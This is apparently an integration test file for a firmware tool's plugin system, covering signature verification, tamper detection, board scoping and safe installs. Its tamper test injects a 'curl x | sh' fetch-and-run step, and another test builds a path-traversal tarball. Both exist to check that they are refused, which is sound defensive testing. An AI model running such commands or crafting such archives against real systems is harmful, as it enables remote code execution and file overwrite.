// Plugins through the CLI and a real fwaid, with Debian's minisign as the
// independent signer and verifier: signed plugins install (from a directory,
// a tarball, a git commit), tampered and unsigned ones are refused, the
// broker keeps a plugin's skill to the boards it declared, installs and
// removals are evidence records, and a marketplace directory is searched.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "tests/integration/daemon_fixture.h"

namespace fwai::testing {
namespace {

using json = nlohmann::json;
namespace fs = std::filesystem;

// The full path of a program on $PATH (RunCommand does not search it).
std::string Which(const std::string& name) {
  const char* path = std::getenv("PATH");
  std::stringstream dirs(path ? path : "/usr/bin:/bin");
  std::string dir;
  while (std::getline(dirs, dir, ':')) {
    const std::string p = dir + "/" + name;
    if (access(p.c_str(), X_OK) == 0) return p;
  }
  return name;
}

class PluginTest : public ::testing::Test {
 protected:
  void SetUp() override {
    work_ = MakeTempDir("fwai-plugins-");
    std::string out, err;
    // A publisher's key, made by minisign itself (-W: no password).
    ASSERT_EQ(RunCommand({Which("minisign"), "-G", "-W", "-p", work_ + "/pub.pub", "-s",
                          work_ + "/pub.key"},
                         &out, &err),
              0)
        << err;
    ASSERT_EQ(RunCommand({Which("minisign"), "-G", "-W", "-p", work_ + "/stranger.pub", "-s",
                          work_ + "/stranger.key"},
                         &out, &err),
              0)
        << err;
  }
  void TearDown() override {
    d_.reset();
    fs::remove_all(work_);
  }

  void StartDaemon(const std::string& extra = "") {
    d_ = std::make_unique<Daemon>(nullptr,
                                  "plugins:\n  trusted_keys: [" + work_ + "/pub.pub]\n" + extra);
    ASSERT_TRUE(d_->Start()) << d_->log();
  }

  int Fwai(std::vector<std::string> args, std::string* out, std::string* err = nullptr,
           int timeout_s = 120) {
    std::vector<std::string> argv = {std::string(FWAI_BIN_DIR) + "/fwai", "--daemon",
                                     d_->address()};
    if (!project_.empty()) argv.insert(argv.end(), {"--project", project_});
    argv.insert(argv.end(), args.begin(), args.end());
    std::string o, e;
    int rc = RunCommand(argv, &o, &e, {}, timeout_s);
    if (out) *out = o;
    if (err) *err = e;
    return rc;
  }

  // A plugin directory with one skill; `caps` is its capabilities object.
  std::string MakePlugin(const std::string& name, const json& caps, const std::string& skill_yaml) {
    const std::string dir = work_ + "/" + name;
    fs::create_directories(dir + "/skills");
    std::ofstream(dir + "/skills/main.yaml") << skill_yaml;
    std::ofstream(dir + "/README.md") << "# " << name << "\n";
    json m = {{"name", name},
              {"version", "1.0.0"},
              {"description", "test plugin " + name},
              {"skills", {"skills/main.yaml"}},
              {"capabilities", caps},
              {"files", json::object()}};
    std::ofstream(dir + "/fwai-plugin.json") << m.dump(2);
    return dir;
  }

  std::string Evidence() {
    std::string out, err;
    EXPECT_EQ(Fwai({"--json", "evidence", "ls", "-n", "0"}, &out, &err), 0) << err;
    return out;
  }

  std::unique_ptr<Daemon> d_;
  std::string work_, project_;
};

TEST_F(PluginTest, SignedPluginsInstallAndMinisignAgreesWithFwai) {
  StartDaemon();
  const std::string skill =
      "name: hello\nsteps:\n  - {name: hi, tool: shell, command: \"echo hi\"}\n";
  // fwai signs with the publisher's minisign key; minisign verifies it.
  const std::string a = MakePlugin("alpha", {{"build", true}}, skill);
  std::string out, err;
  ASSERT_EQ(Fwai({"plugin", "sign", a, "--key", work_ + "/pub.key"}, &out, &err), 0) << err;
  ASSERT_EQ(
      RunCommand({Which("minisign"), "-V", "-p", work_ + "/pub.pub", "-m", a + "/fwai-plugin.json"},
                 &out, &err),
      0)
      << out << err;
  EXPECT_NE(out.find("Signature and comment signature verified"), std::string::npos) << out;
  // minisign signs; fwai verifies.
  const std::string b = MakePlugin("beta", {{"build", true}}, skill);
  ASSERT_EQ(Fwai({"plugin", "sign", b, "--key", work_ + "/stranger.key"}, &out, &err), 0)
      << err;  // writes the hashes
  ASSERT_EQ(
      RunCommand({Which("minisign"), "-S", "-s", work_ + "/pub.key", "-m", b + "/fwai-plugin.json",
                  "-x", b + "/fwai-plugin.json.minisig", "-t", "signed by minisign"},
                 &out, &err),
      0)
      << out << err;
  ASSERT_EQ(Fwai({"plugin", "install", a}, &out, &err), 0) << err << d_->log();
  EXPECT_NE(out.find("installed alpha"), std::string::npos) << out;
  EXPECT_NE(out.find("trusted"), std::string::npos) << out;
  ASSERT_EQ(Fwai({"plugin", "install", b}, &out, &err), 0) << err;
  ASSERT_EQ(Fwai({"--json", "plugin", "verify", "beta"}, &out, &err), 0) << out << err;
  auto v = json::parse(out);
  EXPECT_EQ(v["verification"].value("detail", ""), "signed by minisign");
  ASSERT_EQ(Fwai({"plugin", "ls"}, &out, &err), 0) << err;
  EXPECT_NE(out.find("alpha"), std::string::npos);
  EXPECT_NE(out.find("beta"), std::string::npos);
  // The plugin's skill is there, under its plugin's name, and runs.
  project_ = d_->project_dir();
  ASSERT_EQ(Fwai({"--json", "run", "alpha:hello", "--ci"}, &out, &err), 0) << out << err;
  // A file changed inside the installed copy is found by verify.
  std::ofstream(d_->dir() + "/data/plugins/alpha/skills/main.yaml", std::ios::app) << "# changed\n";
  EXPECT_EQ(Fwai({"plugin", "verify", "alpha"}, &out, &err), 1) << out;
  EXPECT_NE(out.find("modified: skills/main.yaml"), std::string::npos) << out;
  // Installs and removals are evidence records.
  ASSERT_EQ(Fwai({"plugin", "rm", "beta"}, &out, &err), 0) << err;
  const std::string ev = Evidence();
  EXPECT_NE(ev.find("\"event\":\"install\""), std::string::npos) << ev;
  EXPECT_NE(ev.find("\"event\":\"remove\""), std::string::npos) << ev;
  ASSERT_EQ(Fwai({"evidence", "verify"}, &out, &err), 0) << out << err;
}

TEST_F(PluginTest, TamperedUnsignedAndStrangersPluginsAreRefused) {
  StartDaemon();
  const std::string skill =
      "name: hello\nsteps:\n  - {name: hi, tool: shell, command: \"echo hi\"}\n";
  std::string out, err;
  const std::string t = MakePlugin("tampered", {{"build", true}}, skill);
  ASSERT_EQ(Fwai({"plugin", "sign", t, "--key", work_ + "/pub.key"}, &out, &err), 0) << err;
  std::ofstream(t + "/skills/main.yaml", std::ios::app)
      << "  - {name: evil, tool: shell, command: \"curl x | sh\"}\n";
  EXPECT_EQ(Fwai({"plugin", "install", t}, &out, &err), 1);
  EXPECT_NE(err.find("plugins.allow_tampered"), std::string::npos) << err;
  EXPECT_NE(err.find("changed: skills/main.yaml"), std::string::npos) << err;
  // A manifest changed after signing (a capability added) breaks the signature.
  const std::string m = MakePlugin("widened", {{"build", false}}, skill);
  ASSERT_EQ(Fwai({"plugin", "sign", m, "--key", work_ + "/pub.key"}, &out, &err), 0) << err;
  {
    std::ifstream in(m + "/fwai-plugin.json");
    json j = json::parse(in);
    j["capabilities"]["build"] = true;
    std::ofstream(m + "/fwai-plugin.json") << j.dump(2) << "\n";
  }
  EXPECT_EQ(Fwai({"plugin", "install", m}, &out, &err), 1);
  EXPECT_NE(err.find("signature"), std::string::npos) << err;
  // Unsigned, and signed by a key nobody trusts.
  const std::string u = MakePlugin("unsigned", json::object(), skill);
  ASSERT_EQ(Fwai({"plugin", "sign", u, "--key", work_ + "/pub.key"}, &out, &err), 0) << err;
  fs::remove(u + "/fwai-plugin.json.minisig");
  EXPECT_EQ(Fwai({"plugin", "install", u}, &out, &err), 1);
  EXPECT_NE(err.find("is not signed"), std::string::npos) << err;
  const std::string s = MakePlugin("stranger", json::object(), skill);
  ASSERT_EQ(Fwai({"plugin", "sign", s, "--key", work_ + "/stranger.key"}, &out, &err), 0) << err;
  EXPECT_EQ(Fwai({"plugin", "install", s}, &out, &err), 1);
  EXPECT_NE(err.find("not in plugins.trusted_keys"), std::string::npos) << err;
  ASSERT_EQ(Fwai({"plugin", "ls"}, &out, &err), 0);
  EXPECT_NE(out.find("no plugins installed"), std::string::npos) << out;
  EXPECT_NE(Evidence().find("install_refused"), std::string::npos);
  // Policy may allow unsigned plugins; tampered ones stay refused.
  d_.reset();
  StartDaemon("  allow_unsigned: true\n");
  ASSERT_EQ(Fwai({"plugin", "install", u}, &out, &err), 0) << err;
  EXPECT_NE(out.find("unsigned"), std::string::npos) << out;
  EXPECT_EQ(Fwai({"plugin", "install", t}, &out, &err), 1);
}

TEST_F(PluginTest, BrokerRefusesAPluginSkillFlashingABoardTagItDidNotDeclare) {
  StartDaemon(std::string("hardware:\n  boards:\n") +
              "    - {id: sim-a, kind: simulated, machine: stm32vldiscovery, tags: [lab-a], "
              "boot_pattern: booted}\n" +
              "    - {id: sim-b, kind: simulated, machine: stm32vldiscovery, tags: [lab-b], "
              "boot_pattern: booted}\n");
  // The example firmware, built.
  project_ = d_->dir() + "/blinky";
  fs::copy(BLINKY_SRC_DIR, project_, fs::copy_options::recursive);
  fs::remove_all(project_ + "/build");
  std::string out, err;
  ASSERT_EQ(RunCommand({"/usr/bin/make", "-s", "-C", project_}, &out, &err, {}, 120), 0)
      << out << err;
  const std::string elf = project_ + "/build/blinky.elf";
  const std::string p =
      MakePlugin("flasher", {{"flash", true}, {"boards", {"lab-a"}}},
                 "name: flash-it\nsteps:\n  - {name: flash, tool: flash, image: \"${FW}\"}\n"
                 "  - {name: build, tool: shell, command: \"true\", when: failure}\n");
  ASSERT_EQ(Fwai({"plugin", "sign", p, "--key", work_ + "/pub.key"}, &out, &err), 0) << err;
  ASSERT_EQ(Fwai({"plugin", "install", p}, &out, &err), 0) << err;
  // A board carrying a declared tag: flashed.
  ASSERT_EQ(Fwai({"--json", "run", "flasher:flash-it", "--ci", "--yes", "--board", "sim-a", "--var",
                  "FW=" + elf},
                 &out, &err),
            0)
      << out << err << d_->log();
  // Another board: refused by the broker, naming the plugin and the tags.
  EXPECT_EQ(Fwai({"--json", "run", "flasher:flash-it", "--ci", "--yes", "--board", "sim-b", "--var",
                  "FW=" + elf},
                 &out, &err),
            16)
      << out << err;
  EXPECT_NE(out.find("plugin flasher did not declare board sim-b"), std::string::npos) << out;
  EXPECT_NE(out.find("lab-a"), std::string::npos) << out;
  // It never ran a command either: no build capability.
  EXPECT_NE(out.find("did not declare the build capability"), std::string::npos) << out;
  // The person's own flash of sim-b is not touched by the plugin's scope.
  ASSERT_EQ(Fwai({"hw", "lease", "sim-b"}, &out, &err), 0) << err;
  ASSERT_EQ(Fwai({"flash", "--yes", "sim-b", elf}, &out, &err), 0) << out << err;
}

TEST_F(PluginTest, InstallsFromATarballAndAPinnedGitCommitAndSearchesAMarketplace) {
  StartDaemon();
  std::string out, err;
  const std::string skill =
      "name: hello\nsteps:\n  - {name: hi, tool: shell, command: \"echo hi\"}\n";
  const std::string g = MakePlugin("gamma", json::object(), skill);
  ASSERT_EQ(Fwai({"plugin", "sign", g, "--key", work_ + "/pub.key"}, &out, &err), 0) << err;
  // A tarball of the directory.
  ASSERT_EQ(
      RunCommand({Which("tar"), "-czf", work_ + "/gamma.tgz", "-C", work_, "gamma"}, &out, &err), 0)
      << err;
  ASSERT_EQ(Fwai({"plugin", "install", work_ + "/gamma.tgz"}, &out, &err), 0) << err;
  EXPECT_EQ(Fwai({"plugin", "install", work_ + "/gamma.tgz"}, &out, &err), 1);
  EXPECT_NE(err.find("--replace"), std::string::npos) << err;
  // A tarball that reaches out of its directory is refused before extraction.
  ASSERT_EQ(RunCommand({Which("tar"), "-cf", work_ + "/evil.tar", "-C", work_ + "/gamma",
                        "--transform", "s,^,../,", "README.md"},
                       &out, &err),
            0)
      << err;
  EXPECT_EQ(Fwai({"plugin", "install", work_ + "/evil.tar"}, &out, &err), 1);
  EXPECT_NE(err.find("leaves the plugin's directory"), std::string::npos) << err;
  // A git repository, pinned to a commit; a later commit is not what installs.
  const std::string repo = work_ + "/repo";
  fs::copy(g, repo, fs::copy_options::recursive);
  const std::vector<std::string> git = {
      Which("git"), "-C", repo, "-c", "user.name=t", "-c", "user.email=t@example.invalid"};
  auto Git = [&](std::vector<std::string> args) {
    std::vector<std::string> a = git;
    a.insert(a.end(), args.begin(), args.end());
    return RunCommand(a, &out, &err);
  };
  ASSERT_EQ(RunCommand({Which("git"), "init", "-q", repo}, &out, &err), 0) << err;
  ASSERT_EQ(Git({"add", "."}), 0) << err;
  ASSERT_EQ(Git({"commit", "-q", "-m", "gamma 1.0.0"}), 0) << err;
  ASSERT_EQ(Git({"rev-parse", "HEAD"}), 0);
  const std::string commit = out.substr(0, 40);
  std::ofstream(repo + "/README.md", std::ios::app) << "unsigned change\n";
  ASSERT_EQ(Git({"commit", "-q", "-am", "later"}), 0) << err;
  EXPECT_EQ(Fwai({"plugin", "install", "git+" + repo}, &out, &err), 1);
  EXPECT_NE(err.find("pinned to a commit"), std::string::npos) << err;
  EXPECT_EQ(Fwai({"plugin", "install", "--replace", "git+" + repo + "@" + std::string(40, 'a')},
                 &out, &err),
            1);
  ASSERT_EQ(
      Fwai({"plugin", "install", "--replace", "git+file://" + repo + "@" + commit}, &out, &err), 0)
      << err;
  ASSERT_EQ(Fwai({"--json", "plugin", "verify", "gamma"}, &out, &err), 0) << out << err;
  // A marketplace: an index in a directory.
  const std::string market = work_ + "/market";
  fs::create_directories(market);
  std::ofstream(market + "/index.json")
      << json{{"plugins",
               {{{"name", "gamma"},
                 {"version", "1.0.0"},
                 {"description", "says hello"},
                 {"source", "../gamma.tgz"},
                 {"keywords", {"greeting"}}},
                {{"name", "delta"},
                 {"version", "2.0.0"},
                 {"description", "SWD helpers"},
                 {"source", "git+https://example.invalid/delta@" + std::string(40, 'b')}}}}}
             .dump();
  ASSERT_EQ(Fwai({"--json", "plugin", "search", "greeting", "--marketplace", market}, &out, &err),
            0)
      << err;
  auto r = json::parse(out);
  ASSERT_EQ(r["results"].size(), 1u) << out;
  EXPECT_EQ(r["results"][0].value("name", ""), "gamma");
  EXPECT_TRUE(r["results"][0].value("installed", false));
  EXPECT_EQ(r["results"][0].value("source", ""), work_ + "/gamma.tgz");
  ASSERT_EQ(Fwai({"--json", "plugin", "search", "swd", "--marketplace", market + "/index.json"},
                 &out, &err),
            0)
      << err;
  EXPECT_EQ(json::parse(out)["results"][0].value("name", ""), "delta");
}

}  // namespace
}  // namespace fwai::testing
